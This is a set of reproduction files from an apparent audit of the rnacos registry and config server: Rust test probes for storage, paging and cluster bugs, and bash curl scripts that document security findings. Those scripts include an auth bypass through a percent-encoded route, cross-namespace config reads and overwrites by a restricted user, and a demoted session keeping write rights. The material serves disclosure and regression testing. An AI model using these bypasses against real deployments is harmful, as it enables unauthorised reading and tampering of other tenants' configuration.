