// Throw-away reproduction probes (append to src/config/config_index.rs resp. src/naming/service_index.rs of a scratch copy; `cargo test --lib probe_`).
// FAIL before the fix commits "listing without a tenant/namespace filter applied the offset per partition", pass after. Not part of any registered check.

#[cfg(test)]
mod probe_cross_tenant_paging {
    use super::*;

    // listing without a tenant filter over two tenants: every stored key appears exactly once across the pages
    #[test]
    fn probe_paging_across_tenants_returns_every_key_once() {
        let mut index = TenantIndex::new();
        for t in ["t1", "t2"] {
            for d in ["a", "b", "c"] {
                index.insert_config(ConfigKey::new(d, "g", t));
            }
        }
        let mut seen = vec![];
        let mut total = 0;
        for page in 0..4 {
            let param = ConfigQueryParam { limit: 2, offset: page * 2, ..Default::default() };
            let (size, list) = index.query_config_page(&param);
            total = size;
            for k in list {
                seen.push(format!("{}/{}", k.tenant, k.data_id));
            }
        }
        assert_eq!(total, 6);
        assert_eq!(seen, vec!["t1/a", "t1/b", "t1/c", "t2/a", "t2/b", "t2/c"], "pages of size 2 over 6 keys");
    }
}

// ---- src/naming/service_index.rs ----
#[cfg(test)]
mod probe_cross_namespace_paging {
    use super::*;

    #[test]
    fn probe_service_paging_across_namespaces_returns_every_service_once() {
        let mut index = NamespaceIndex::new();
        for n in ["n1", "n2"] {
            for s in ["a", "b", "c"] {
                index.insert_service(ServiceKey::new(n, "g", s));
            }
        }
        let mut seen = vec![];
        let mut total = 0;
        for page in 0..4 {
            let param = ServiceQueryParam { limit: 2, offset: page * 2, ..Default::default() };
            let (size, list) = index.query_service_page(&param);
            total = size;
            for k in list {
                seen.push(format!("{}/{}", k.namespace_id, k.service_name));
            }
        }
        assert_eq!(total, 6);
        assert_eq!(seen, vec!["n1/a", "n1/b", "n1/c", "n2/a", "n2/b", "n2/c"], "pages of size 2 over 6 services");
    }
}
