// Throw-away reproduction probe (append to src/raft/filestore/raftlog/mod.rs of a scratch copy; `cargo test --lib probe_strip`).
// FAILS before the fix commit "strip_log_to at the start of an index interval removed nothing", passes after. Not part of any registered check.

#[cfg(test)]
mod probe_segstart {
    use super::*;
    fn rec(index: u64, term: u64, n: usize) -> LogRecordDto {
        LogRecordDto { index, term, value: vec![7u8; n] }
    }
    // truncation whose cut point is exactly the first record of an index segment (k - start_index multiple of 128, or k == start_index)
    #[tokio::test]
    async fn probe_strip_at_segment_start() {
        let temp = tempfile::tempdir().unwrap();
        let p = temp.path().join("log_s").to_string_lossy().into_owned();
        let mut mgr = LogInnerManager::init(p.clone(), 0, 0, 0).await.unwrap();
        for i in 0..200u64 { mgr.write(&rec(i, 1, 20)).await.unwrap(); }
        mgr.strip_log_to(128).await.unwrap();
        assert_eq!(mgr.get_end_index(), 128, "entries 128..199 must be gone");
        mgr.write(&rec(128, 2, 20)).await.unwrap();
        mgr.flush_log().await.unwrap();
        drop(mgr);
        let mut mgr = LogInnerManager::init(p, 0, 0, 0).await.unwrap();
        assert_eq!(mgr.get_end_index(), 129);
        let l = mgr.read_records(128, 129).await.unwrap();
        assert_eq!(l[0].term, 2);
    }
    #[tokio::test]
    async fn probe_strip_to_file_start() {
        let temp = tempfile::tempdir().unwrap();
        let p = temp.path().join("log_t").to_string_lossy().into_owned();
        let mut mgr = LogInnerManager::init(p.clone(), 10, 0, 0).await.unwrap();
        for i in 10..20u64 { mgr.write(&rec(i, 1, 20)).await.unwrap(); }
        mgr.strip_log_to(10).await.unwrap();
        assert_eq!(mgr.get_end_index(), 10, "every entry of the file must be gone");
    }
}
