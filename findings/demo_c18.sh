#!/bin/bash
# Demonstration of the C18 known findings against the real binary (run by hand; not part of any registered check).
# build: cargo build --offline --bin rnacos ; start one node with RNACOS_CONSOLE_ENABLE_CAPTCHA=false, console port 18858, then:
C=http://127.0.0.1:18858
curl -s -c adm.ck -X POST "$C/rnacos/api/console/v2/login/login" --data-urlencode "username=admin" --data-urlencode "password=$(echo -n admin | base64)"
for ns in ns1 ns2; do curl -s -b adm.ck -X POST "$C/rnacos/api/console/v2/namespaces/add" -H 'Content-Type: application/json' -d "{\"namespaceId\":\"$ns\",\"namespaceName\":\"$ns\"}"; done
for ns in ns1 ns2; do curl -s -b adm.ck -X POST "$C/rnacos/api/console/v2/config/add" -H 'Content-Type: application/json' -d "{\"dataId\":\"d1\",\"group\":\"g\",\"tenant\":\"$ns\",\"content\":\"secret-of-$ns\"}"; done
curl -s -b adm.ck -X POST "$C/rnacos/api/console/v2/user/add" -H 'Content-Type: application/json' -d '{"username":"dev1","nickname":"dev1","password":"dev1pass","enable":true,"roles":"1","namespacePrivilegeParam":{"whitelistIsAll":false,"whitelist":["ns1"],"blacklistIsAll":false}}'
curl -s -c dev.ck -X POST "$C/rnacos/api/console/v2/login/login" --data-urlencode "username=dev1" --data-urlencode "password=$(echo -n dev1pass | base64)"
# observed 2026-09-24 on the tree with all fix: commits:
curl -s -b dev.ck "$C/rnacos/api/console/v2/config/info?dataId=d1&group=g&tenant=ns2"    # NO_NAMESPACE_PERMISSION (correct)
curl -s -b dev.ck "$C/rnacos/api/console/cs/configs?dataId=d1&group=g&tenant=ns2"        # secret-of-ns2   (v1 route on the OpenAPI handler)
curl -s -b dev.ck -X POST "$C/rnacos/api/console/cs/configs" -d "dataId=d1&group=g&tenant=ns2&content=overwritten-by-dev1"   # true; admin then reads overwritten-by-dev1
curl -s -b dev.ck "$C/rnacos/api/console/config/history?dataId=d1&group=g&tenant=ns2&pageNo=1&pageSize=10"                    # both history items of ns2
curl -s -b dev.ck -X POST "$C/rnacos/api/console/ns/instance" -d "serviceName=svc&ip=1.2.3.4&port=80&namespaceId=ns2&ephemeral=false"   # ok
curl -s -b dev.ck "$C/rnacos/api/console/ns/instance?serviceName=svc&ip=1.2.3.4&port=80&namespaceId=ns2"                     # the instance
curl -s -b dev.ck -X POST "$C/rnacos/api/console/v2/mcp/toolspec/add" -H 'Content-Type: application/json' -d '{"namespace":"ns2","group":"g","toolName":"t1","function":{"name":"t1","description":"d","inputSchema":{"type":"object"}}}'   # success
curl -s -b dev.ck "$C/rnacos/api/console/v2/mcp/toolspec/list?namespaceId=ns2&pageNo=1&pageSize=10"                         # totalCount 1
