#!/bin/bash
# C17 known finding R17f: a session keeps the roles it was created with (documentation; not run by any check).
# start one node: RNACOS_HTTP_PORT=18848 RNACOS_GRPC_PORT=19848 RNACOS_HTTP_CONSOLE_PORT=18858 RNACOS_DATA_DIR=/tmp/d17/data RNACOS_CONSOLE_ENABLE_CAPTCHA=false rnacos
C=http://127.0.0.1:18858
curl -s -c adm.ck -X POST "$C/rnacos/api/console/v2/login/login" --data-urlencode "username=admin" --data-urlencode "password=$(echo -n admin | base64)"
curl -s -b adm.ck -X POST "$C/rnacos/api/console/v2/user/add" -H 'Content-Type: application/json' -d '{"username":"dev1","nickname":"dev1","password":"dev1pass","enable":true,"roles":"1"}'
curl -s -c dev.ck -X POST "$C/rnacos/api/console/v2/login/login" --data-urlencode "username=dev1" --data-urlencode "password=$(echo -n dev1pass | base64)"
curl -s -b dev.ck -X POST "$C/rnacos/api/console/v2/config/add" -H 'Content-Type: application/json' -d '{"dataId":"d1","group":"g","tenant":"","content":"v1"}'      # success (developer)
curl -s -b adm.ck -X POST "$C/rnacos/api/console/v2/user/update" -H 'Content-Type: application/json' -d '{"username":"dev1","nickname":"dev1","enable":true,"roles":"2"}' # demote to visitor
curl -s -b dev.ck -X POST "$C/rnacos/api/console/v2/config/add" -H 'Content-Type: application/json' -d '{"dataId":"d2","group":"g","tenant":"","content":"written-after-demotion"}'  # observed 2026-09-24: {"data":true,"success":true}
curl -s -c dev2.ck -X POST "$C/rnacos/api/console/v2/login/login" --data-urlencode "username=dev1" --data-urlencode "password=$(echo -n dev1pass | base64)"
curl -s -b dev2.ck -X POST "$C/rnacos/api/console/v2/config/add" -H 'Content-Type: application/json' -d '{"dataId":"d3","group":"g","tenant":"","content":"x"}'       # NO_PERMISSION (fresh session)
