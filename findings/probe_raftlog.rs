// Throw-away reproduction probes (append to src/raft/filestore/raftlog/mod.rs of a scratch copy; `cargo test --lib probe_`).
// They FAIL on the pinned tree 41a5f6e and PASS after the fix: commits. Not part of any registered check.

#[cfg(test)]
mod probe_tests {
    use super::*;

    fn rec(index: u64, term: u64, n: usize) -> LogRecordDto {
        LogRecordDto { index, term, value: vec![7u8; n] }
    }

    // R20b / R02b: a record that ends exactly on the 1024-byte read chunk of the recovery scan
    #[tokio::test]
    async fn probe_chunk_boundary_reopen() {
        let temp = tempfile::tempdir().unwrap();
        let p = temp.path().join("log_a").to_string_lossy().into_owned();
        let mut mgr = LogInnerManager::init(p.clone(), 1, 0, 0).await.unwrap();
        let mut total = 0u64;
        for i in 1..=20u64 {
            // make the 8th record end exactly at byte 1024 of the scan that starts at file offset 4096
            let mut n = 100usize;
            if i == 8 {
                let before = mgr.data_cursor - 4096;
                // record size = payload + overhead; find overhead from the first record
                let overhead = total / 7 - 100;
                n = (1024 - before - overhead - 2) as usize;
            }
            let c0 = mgr.data_cursor;
            mgr.write(&rec(i, 1, n)).await.unwrap();
            if i <= 7 { total += mgr.data_cursor - c0; }
            if i == 8 { assert_eq!(mgr.data_cursor - 4096, 1024, "probe setup"); }
        }
        mgr.flush_log().await.unwrap();
        drop(mgr);
        let mgr = LogInnerManager::init(p, 1, 0, 0).await.unwrap();
        assert_eq!(mgr.get_end_index(), 21);
    }

    // R02a: truncate across a 128-record index entry whose file-offset delta needs 3 bytes
    #[tokio::test]
    async fn probe_strip_across_index_entry() {
        let temp = tempfile::tempdir().unwrap();
        let p = temp.path().join("log_b").to_string_lossy().into_owned();
        let mut mgr = LogInnerManager::init(p.clone(), 0, 0, 0).await.unwrap();
        for i in 0..300u64 { mgr.write(&rec(i, 1, 200)).await.unwrap(); }
        mgr.strip_log_to(100).await.unwrap();
        assert_eq!(mgr.get_end_index(), 100);
        for i in 100..300u64 { mgr.write(&rec(i, 2, 200)).await.unwrap(); }
        mgr.flush_log().await.unwrap();
        drop(mgr);
        let mut mgr = LogInnerManager::init(p, 0, 0, 0).await.unwrap();
        assert_eq!(mgr.get_end_index(), 300);
        let l = mgr.read_records(250, 260).await.unwrap();
        assert_eq!(l.len(), 10);
        assert_eq!(l[0].index, 250);
        assert_eq!(l[0].term, 2);
    }

    // R03a: removed suffix must not come back after an equal-length re-append and reopen
    #[tokio::test]
    async fn probe_strip_suffix_resurrects() {
        let temp = tempfile::tempdir().unwrap();
        let p = temp.path().join("log_c").to_string_lossy().into_owned();
        let mut mgr = LogInnerManager::init(p.clone(), 0, 0, 0).await.unwrap();
        for i in 0..5u64 { mgr.write(&rec(i, 1, 10)).await.unwrap(); }
        mgr.strip_log_to(2).await.unwrap();
        mgr.write(&rec(2, 2, 10)).await.unwrap();
        mgr.flush_log().await.unwrap();
        drop(mgr);
        let mut mgr = LogInnerManager::init(p, 0, 0, 0).await.unwrap();
        assert_eq!(mgr.get_end_index(), 3, "entries 3,4 of term 1 were removed and must stay removed");
        let l = mgr.read_records(0, 10).await.unwrap();
        assert_eq!(l.len(), 3);
        assert_eq!(l[2].term, 2);
    }

    // R03a index area: shorter log after a strip across two index entries, then reopen
    #[tokio::test]
    async fn probe_strip_index_area_stale() {
        let temp = tempfile::tempdir().unwrap();
        let p = temp.path().join("log_d").to_string_lossy().into_owned();
        let mut mgr = LogInnerManager::init(p.clone(), 0, 0, 0).await.unwrap();
        for i in 0..400u64 { mgr.write(&rec(i, 1, 50)).await.unwrap(); }
        mgr.strip_log_to(100).await.unwrap();
        // re-append past one index entry only, with bigger records (different offset delta)
        for i in 100..200u64 { mgr.write(&rec(i, 2, 300)).await.unwrap(); }
        mgr.flush_log().await.unwrap();
        drop(mgr);
        let mut mgr = LogInnerManager::init(p, 0, 0, 0).await.unwrap();
        assert_eq!(mgr.get_end_index(), 200);
        let l = mgr.read_records(190, 200).await.unwrap();
        assert_eq!(l.len(), 10);
        assert_eq!(l[9].index, 199);
    }
}
