// Throw-away reproduction probe (append to src/naming/core.rs of a scratch copy; `cargo test --lib probe_taken_over_unhealthy`).
// FAILS before the fix commit "an instance that is unhealthy already was never put on the removal clock", passes after. Not part of any registered check.

#[cfg(test)]
mod probe_unhealthy_never_removed {
    use super::*;
    use crate::naming::cluster::model::ProcessRange;

    fn http_instance(port: u32, healthy: bool, from_cluster: u64) -> Instance {
        let mut instance = Instance::new("10.0.0.7".to_owned(), port);
        instance.namespace_id = Arc::new("public".to_owned());
        instance.service_name = Arc::new("s1".to_owned());
        instance.group_name = Arc::new("DEFAULT_GROUP".to_owned());
        instance.healthy = healthy;
        instance.from_cluster = from_cluster;
        instance
    }

    // node 2 owned the service and had already marked the instance unhealthy when it died; node 1 takes the service over.
    // Nobody sends heartbeats: the new owner must remove the instance after the instance time-out.
    #[actix_rt::test]
    async fn probe_taken_over_unhealthy_instance_is_removed() {
        let mut naming = NamingActor::new();
        naming.sys_config.instance_health_timeout_millis = 300;
        naming.sys_config.instance_timeout_millis = 800;
        let i1 = http_instance(8001, false, 2);
        let key = i1.get_service_key();
        let short_key = i1.get_short_key();
        naming.update_instance(&key, i1, None, true, None);
        naming.refresh_process_range(ProcessRange::new(0, 1)).unwrap();
        for _ in 0..8 {
            tokio::time::sleep(Duration::from_millis(300)).await;
            naming.time_check();
        }
        assert!(naming.get_instance(&key, &short_key).is_none(), "the unhealthy instance of the dead owner is never removed by the node that took the service over");
    }
}
