// Throw-away reproduction probe (append to src/raft/filestore/raftlog/mod.rs of a scratch copy; `cargo test --lib probe_last_term_after`).
// FAILS before the fix commit "reopening a fully compacted log file reported the wrong last term", passes after. Not part of any registered check.

#[cfg(test)]
mod probe_last_term_compacted {
    use super::*;
    fn rec(index: u64, term: u64) -> LogRecordDto {
        LogRecordDto { index, term, value: vec![7u8; 10] }
    }
    // the open log file holds entries 0..=4 (terms 1,1,1,2,2); a snapshot was taken at the last index, so the whole file is split off.
    // after a restart the store must still report term 2 for its last entry (votes and the append fast path compare it)
    #[tokio::test]
    async fn probe_last_term_after_reopen_of_fully_compacted_file() {
        let temp = tempfile::tempdir().unwrap();
        let p = temp.path().join("log_c").to_string_lossy().into_owned();
        let mut mgr = LogInnerManager::init(p.clone(), 0, 1, 0).await.unwrap();
        for (i, t) in [(0, 1), (1, 1), (2, 1), (3, 2), (4, 2)] {
            mgr.write(&rec(i, t)).await.unwrap();
        }
        mgr.flush_log().await.unwrap();
        assert_eq!(mgr.get_last_index_info().term, 2);
        drop(mgr);
        let mgr = LogInnerManager::init(p, 0, 1, 5).await.unwrap();
        let info = mgr.get_last_index_info();
        assert_eq!((info.index, info.term), (4, 2), "last index/term after reopen with split_off_index = 5");
    }
}
