#!/bin/bash
# C16: encoded spelling of a protected route bypassed the OpenAPI auth middleware (documentation; not run by any check).
# start one node:  RNACOS_HTTP_PORT=18848 RNACOS_GRPC_PORT=19848 RNACOS_HTTP_CONSOLE_PORT=18858 RNACOS_DATA_DIR=/tmp/d16/data RNACOS_ENABLE_OPEN_API_AUTH=true rnacos
A=http://127.0.0.1:18848
curl -s -o /dev/null -w '%{http_code}\n' "$A/nacos/v1/cs/configs?dataId=a&group=g"                       # 403 before and after the fix
curl -s -X POST "$A/%6Eacos/v1/cs/configs" -d "dataId=a&group=g&content=written-without-token" -w ' %{http_code}\n'   # before b694a6e: true 200 ; after: 403
curl -s "$A/%6Eacos/v1/cs/configs?dataId=a&group=g" -w ' %{http_code}\n'                                 # before: written-without-token 200 ; after: 403
curl -s -o /dev/null -w '%{http_code}\n' "$A/%6Eacos/v2/console/namespace/list"                          # before: 200 ; after: 403
# with a token (POST /nacos/v1/auth/login) both spellings are served after the fix.
