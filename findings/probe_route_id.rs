// Throw-away reproduction probe (append to src/naming/cluster/node_manage.rs of a scratch copy; `cargo test --lib probe_route_addr`).
// FAILS before the fix commit "route_addr handed out a list position where its users expect a node id", passes after.
// Not part of any registered check.

#[cfg(test)]
mod probe_route_id {
    use super::*;

    fn build(local_id: u64, ids: &[u64]) -> InnerNodeManage {
        let mut m = InnerNodeManage::new(local_id);
        let now = now_millis();
        for id in ids {
            m.all_nodes.insert(*id, ClusterInnerNode { id: *id, index: 0, is_local: *id == local_id,
                addr: Arc::new(format!("127.0.0.1:{}", 9000 + *id)), status: NodeStatus::Valid, last_active_time: now,
                sync_sender: None, client_set: Default::default() });
        }
        m.update_nodes_index();
        m.update_process_range();
        m
    }

    // NamingRoute::do_route_instance uses the number carried by NamingRouteAddr::Remote as the owner's node id
    // (instance.from_cluster = cluster_id, AddClientId(cluster_id, ..)); it must therefore be the id of the node whose address is returned
    #[actix::test]
    async fn probe_route_addr_carries_the_owner_node_id() {
        let addr = build(2, &[1, 2, 3]).start();
        let node_manage = NodeManage::new(addr);
        let mut seen = 0;
        for key in 0..64u64 {
            if let NamingRouteAddr::Remote(id, addr) = node_manage.route_addr(&key).await {
                seen += 1;
                let want = if addr.as_str() == "127.0.0.1:9001" { 1 } else { 3 };
                assert_eq!(id, want, "key {} is routed to {} but the route names node {} as its owner", key, addr, id);
            }
        }
        assert!(seen > 10);
    }
}
