// Throw-away reproduction probe (append to src/namespace/mod.rs of a scratch copy; `cargo test --lib probe_sync_marker`).
// FAILS before the fix commit "the namespace sync marker came back as a namespace after a snapshot reload", passes after. Not part of any registered check.

#[cfg(test)]
mod probe_marker_record {
    use super::*;
    use crate::namespace::model::NamespaceDO;

    // the record NamespaceActor::build_snapshot writes for its "old data already synced" mark, loaded back after a restart
    #[test]
    fn probe_sync_marker_is_not_a_namespace_after_reload() {
        let param = build_already_mark_param();
        let value = Namespace { namespace_id: param.namespace_id, namespace_name: param.namespace_name.unwrap_or_default(), flag: NamespaceFromFlags::USER.bits() };
        let key = value.namespace_id.clone();
        let value_db: NamespaceDO = value.into();
        let record = SnapshotRecordDto { tree: NAMESPACE_TREE_NAME.clone(), key: key.as_bytes().to_vec(), value: value_db.to_bytes().unwrap(), op_type: 0 };
        let mut act = NamespaceActor::new(1);
        let before: Vec<Arc<String>> = act.id_order_list.clone();
        act.load_snapshot_record(record).unwrap();
        assert!(act.already_sync_from_config);
        assert_eq!(act.id_order_list, before, "the marker shows up as a namespace in the list served after the restart");
        assert!(!act.data.contains_key(&key));
    }
}
