// Throw-away reproduction probe (append to src/naming/naming_subscriber.rs of a scratch copy; `cargo test --lib probe_subscriber_list`).
// FAILS before the fix commit "subscriber listing ignored the namespace privilege of the query", passes after. Not part of any registered check.

#[cfg(test)]
mod probe_subscriber_privilege {
    use super::*;
    use crate::common::model::privilege::{NamespacePrivilegeGroup, PrivilegeGroup, PrivilegeGroupFlags};

    // a console user whitelisted for ns-open only asks for the subscriber list without naming a namespace
    #[test]
    fn probe_subscriber_list_respects_namespace_privilege() {
        let mut subscriber = Subscriber::new();
        for ns in ["ns-open", "ns-secret"] {
            let key = ServiceKey::new(ns, "DEFAULT_GROUP", "svc");
            subscriber.add_subscribe(Arc::new("1_100".to_owned()), vec![NamingListenerItem { service_key: key, clusters: None }]);
        }
        let mut white = HashSet::new();
        white.insert(Arc::new("ns-open".to_owned()));
        let privilege = NamespacePrivilegeGroup::new(PrivilegeGroup::new(PrivilegeGroupFlags::ENABLE.bits(), Some(Arc::new(white)), None));
        let param = ServiceQueryParam { namespace_id: None, group: None, service: None, like_group: None, like_service: None,
            namespace_privilege: privilege, offset: 0, limit: 100 };
        let (count, list) = subscriber.query_service_listener_page(&param);
        let leaked: Vec<_> = list.iter().filter(|e| e.namespace_id.as_str() == "ns-secret").collect();
        assert!(leaked.is_empty(), "subscribers of ns-secret are listed for a user restricted to ns-open ({} rows, total {})", leaked.len(), count);
        assert_eq!(count, 1);
    }
}
