// Throw-away reproduction probe (append to src/grpc/handler/naming_batch_instance.rs of a scratch copy; `cargo test --lib probe_batch_registration`).
// FAILS before the fix commit "gRPC batch registration defaulted the namespace with the group helper", passes after. Not part of any registered check.

#[cfg(test)]
mod probe_batch_namespace {
    use super::*;

    // a gRPC batch registration that does not name a namespace (the client's default) must land where queries look: "public"
    #[test]
    fn probe_batch_registration_defaults_to_the_public_namespace() {
        let request = BatchInstanceRequest {
            namespace: None,
            service_name: Some("svc".to_owned()),
            group_name: Some("DEFAULT_GROUP".to_owned()),
            instances: Some(vec![crate::grpc::api_model::Instance { ip: Some(Arc::new("10.0.0.1".to_owned())), port: 8080, weight: 1.0, healthy: true,
                enabled: true, ephemeral: true, ..Default::default() }]),
            ..Default::default()
        };
        let list = BatchInstanceRequestHandler::convert_to_instances(request, Arc::new("1_1".to_owned())).unwrap();
        assert_eq!(list[0].namespace_id.as_str(), "public", "the instance is registered in a namespace no query defaults to");
    }
}
