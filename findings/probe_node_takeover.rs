// Throw-away reproduction probe (append to src/naming/cluster/node_manage.rs of a scratch copy; `cargo test --lib probe_survivor`).
// Needs BOTH fix commits "tell the naming actor when a liveness change moves the owner range" and "instances taken over from another
// node were armed but never expired": it fails with either one reverted. Not part of any registered check.

#[cfg(test)]
mod probe_range_refresh {
    use super::*;
    use crate::common::hash_utils::get_hash_value;
    use crate::naming::core::{NamingActor, NamingCmd, NamingResult};
    use crate::naming::model::{Instance, ServiceKey};

    fn build(local_id: u64, ids: &[u64]) -> InnerNodeManage {
        let mut m = InnerNodeManage::new(local_id);
        let now = now_millis();
        for id in ids {
            m.all_nodes.insert(*id, ClusterInnerNode { id: *id, index: 0, is_local: *id == local_id,
                addr: Arc::new(format!("127.0.0.1:{}", 9000 + *id)), status: NodeStatus::Valid, last_active_time: now,
                sync_sender: None, client_set: Default::default() });
        }
        m.update_nodes_index();
        m.update_process_range();
        m
    }

    // node 2 of {1,2} dies; node 1 must take over supervision of the HTTP instances node 2 owned (synced copies, from_cluster = 2)
    #[actix::test]
    async fn probe_survivor_supervises_taken_over_instances() {
        let mut naming = NamingActor::new();
        naming.sys_config.instance_health_timeout_millis = 1000;
        naming.sys_config.instance_timeout_millis = 2500;
        let naming = naming.start();
        let mut m = build(1, &[1, 2]);
        m.naming_actor = Some(naming.clone());
        m.refresh_process_range(); // what update_nodes does on a membership change: naming range = (index 0, len 2)
        // a service owned by node 2 (hash % 2 == 1)
        let mut name = String::new();
        for i in 0..100 {
            let k = ServiceKey::new("public", "DEFAULT_GROUP", &format!("svc{}", i));
            if get_hash_value(&k) % 2 == 1 { name = format!("svc{}", i); break; }
        }
        let mut instance = Instance::new("10.0.0.9".to_owned(), 8080);
        instance.namespace_id = Arc::new("public".to_owned());
        instance.group_name = Arc::new("DEFAULT_GROUP".to_owned());
        instance.service_name = Arc::new(name.clone());
        instance.from_cluster = 2; // synced copy of an HTTP instance node 2 is responsible for
        let key = instance.get_service_key();
        naming.send(NamingCmd::UpdateFromSync(instance, None)).await.unwrap().unwrap();
        // node 2 is silent for more than 15 s: the liveness tick marks it unavailable, node 1 now owns every key
        m.all_nodes.get_mut(&2).unwrap().last_active_time = now_millis() - 20_000;
        m.check_node_status();
        assert_eq!(m.all_nodes.get(&2).unwrap().status, NodeStatus::Invalid);
        assert_eq!(m.current_range.len, 1);
        // nobody sends heartbeats for the instance any more; the owner must expire it
        // (the 2 s driver is started by the bean factory; drive the time check by hand here)
        for _ in 0..8 {
            tokio::time::sleep(std::time::Duration::from_millis(700)).await;
            naming.send(NamingCmd::PeekListenerTimeout).await.unwrap().ok();
        }
        let r = naming.send(NamingCmd::QueryAllInstanceList(key)).await.unwrap().unwrap();
        match r {
            NamingResult::InstanceList(list) => assert!(list.is_empty(), "instance of the dead node is still listed after both time-outs: {:?}", list.len()),
            _ => panic!("unexpected result"),
        }
    }
}
