#!/bin/bash
# usage: d2_e2e.sh <rnacos binary> <work dir>
# 3-node cluster on ports 4584i (http) / 4594i (grpc+raft) / 4585i (console); registers two HTTP instances in
# one service on the node that owns it, the second one with weight=NaN, and lists the service on every node.
BIN=$1; DIR=$2
rm -rf "$DIR"; mkdir -p "$DIR"
PIDS=""
for i in 1 2 3; do
  JOIN=""; [ $i -gt 1 ] && JOIN="RNACOS_RAFT_JOIN_ADDR=127.0.0.1:45941"
  env RUST_LOG=warn RNACOS_HTTP_PORT=4584$i RNACOS_GRPC_PORT=4594$i RNACOS_HTTP_CONSOLE_PORT=4585$i RNACOS_RAFT_NODE_ID=$i \
      RNACOS_RAFT_NODE_ADDR=127.0.0.1:4594$i $JOIN RNACOS_DATA_DIR=$DIR/d$i "$BIN" > $DIR/n$i.log 2>&1 &
  PIDS="$PIDS $!"
  [ $i -eq 1 ] && sleep 3 || sleep 2
done
trap "kill -9 $PIDS 2>/dev/null; wait 2>/dev/null" EXIT
for t in $(seq 1 30); do curl -s "http://127.0.0.1:45841/nacos/v1/raft/metrics" | grep -q '"members":\[[0-9],[0-9],[0-9]\]' && break; sleep 1; done
sleep 5
curl -s "http://127.0.0.1:45841/nacos/v1/raft/metrics" | head -c 400; echo
list() { for i in 1 2 3; do echo -n "  node $i: "; curl -s "http://127.0.0.1:4584$i/nacos/v1/ns/instance/list?serviceName=$1" | python3 -c 'import sys,json; d=json.load(sys.stdin); print(sorted("%s:%s w=%s healthy=%s"%(h["ip"],h["port"],h["weight"],h["healthy"]) for h in d.get("hosts",[])))'; done; }
SVC=svc_nan
# find the node that accepts weight=NaN directly (the owner of the service)
OWNER=0
for i in 1 2 3; do
  R=$(curl -s -X POST "http://127.0.0.1:4584$i/nacos/v1/ns/instance?serviceName=$SVC&ip=10.0.0.2&port=8080&weight=NaN")
  echo "register 10.0.0.2:8080 weight=NaN on node $i -> $R"
  [ "$R" = "ok" ] && { OWNER=$i; break; }
done
R=$(curl -s -X POST "http://127.0.0.1:4584$OWNER/nacos/v1/ns/instance?serviceName=$SVC&ip=10.0.0.1&port=8080")
echo "register 10.0.0.1:8080 on node $OWNER -> $R"
sleep 3
echo "after registration of 10.0.0.1:8080 and 10.0.0.2:8080 (weight=NaN):"; list $SVC
# an ordinary service, register + deregister (regression check of the sync path)
R=$(curl -s -X POST "http://127.0.0.1:45842/nacos/v1/ns/instance?serviceName=svc_plain&ip=10.0.0.5&port=8080"); echo "register svc_plain via node 2 -> $R"
sleep 2; echo "svc_plain after registration:"; list svc_plain
R=$(curl -s -X DELETE "http://127.0.0.1:45843/nacos/v1/ns/instance?serviceName=svc_plain&ip=10.0.0.5&port=8080"); echo "deregister svc_plain via node 3 -> $R"
sleep 2; echo "svc_plain after deregistration:"; list svc_plain
grep -l "invalid type: null" $DIR/n*.log 2>/dev/null | sed 's/^/  log with "invalid type: null": /'
