// Throw-away reproduction probe: append the header of findings/probe_core.rs (mod probe_tests, entry(), store_at()) and this test to
// src/raft/filestore/core.rs of a scratch copy; `cargo test --lib probe_truncate_in_second_file`. FAILS before the fix commit
// "conflict truncation skipped when an older log file is still listed", passes after. Not part of any registered check.

    // conflict truncation whose cut point lies in the CURRENT (second) file while the first, closed file is still listed
    #[actix::test]
    async fn probe_truncate_in_second_file() {
        let temp = tempfile::tempdir().unwrap();
        let dir_a = temp.path().join("a");
        std::fs::create_dir_all(&dir_a).unwrap();
        let store = store_at(dir_a.to_str().unwrap());
        let mut next = 1u64;
        loop {
            let batch: Vec<Entry<ClientRequest>> = (next..next + 2000).map(|i| entry(i, 1)).collect();
            store.replicate_to_log(&batch).await.unwrap();
            next += 2000;
            if dir_a.join("log_2").exists() {
                break;
            }
            assert!(next < 600_000, "no rollover");
        }
        let batch: Vec<Entry<ClientRequest>> = (next..next + 100).map(|i| entry(i, 1)).collect();
        store.replicate_to_log(&batch).await.unwrap();
        next += 100;
        let last = next - 1;
        let k = last - 50;
        store.delete_logs_from(k, None).await.unwrap();
        let left = store.get_log_entries(k, k + 5).await.unwrap();
        assert!(left.is_empty(), "entries from {} on were deleted but {} are still returned", k, left.len());
        let info = store.get_last_log_index().await.unwrap();
        assert_eq!(info.index, k - 1);
        let batch: Vec<Entry<ClientRequest>> = (k..k + 10).map(|i| entry(i, 2)).collect();
        store.replicate_to_log(&batch).await.unwrap();
        let e = store.get_log_entries(k, k + 1).await.unwrap();
        assert_eq!(e[0].term, 2);
    }
}
