// Throw-away reproduction probe (append to src/naming/core.rs of a scratch copy; `cargo test --lib probe_`). Failed before the fix commit.

#[cfg(test)]
mod probe_tests {
    use super::*;
    // R12e: closing a gRPC connection must not remove a persistent instance registered over it
    #[test]
    fn probe_disconnect_keeps_persistent_instance() {
        let mut naming = NamingActor::new();
        let conn = Arc::new("conn-1".to_owned());
        let mk = |port: u32, ephemeral: bool| {
            let mut i = Instance::new("127.0.0.1".to_owned(), port);
            i.namespace_id = Arc::new("public".to_owned());
            i.service_name = Arc::new("foo".to_owned());
            i.group_name = Arc::new("DEFAULT_GROUP".to_owned());
            i.cluster_name = "DEFAULT".to_owned();
            i.ephemeral = ephemeral;
            i.from_grpc = true;
            i.client_id = conn.clone();
            i.init();
            i
        };
        let e = mk(8080, true);
        let p = mk(8081, false);
        let key = e.get_service_key();
        naming.update_instance(&key, e.clone(), None, false, None);
        naming.update_instance(&key, p.clone(), None, false, None);
        assert!(naming.get_instance(&key, &p.get_short_key()).is_some());
        naming.remove_client_instance(&conn);
        assert!(naming.get_instance(&key, &e.get_short_key()).is_none(), "ephemeral instance of the closed connection must go");
        assert!(naming.get_instance(&key, &p.get_short_key()).is_some(), "persistent instance must survive the connection close");
    }
}
