// Throw-away reproduction probe (append to src/config/core.rs of a scratch copy; `cargo test --lib probe_subscriber_is_still`).
// FAILS on the current tree: known finding R10a:del_config:keeps-subscribers (not repaired). Not part of any registered check.

#[cfg(test)]
mod probe_subscription_survives_remove {
    use super::*;

    fn param(key: &ConfigKey, value: &str, history_id: u64) -> SetConfigParam {
        SetConfigParam { key: key.clone(), value: Arc::new(value.to_owned()), config_type: None, desc: None, history_id,
            history_table_id: None, op_time: now_millis_i64(), op_user: None }
    }

    // a gRPC client subscribes to a key; the key is removed (the client is told) and later published again: the client must be told again
    #[test]
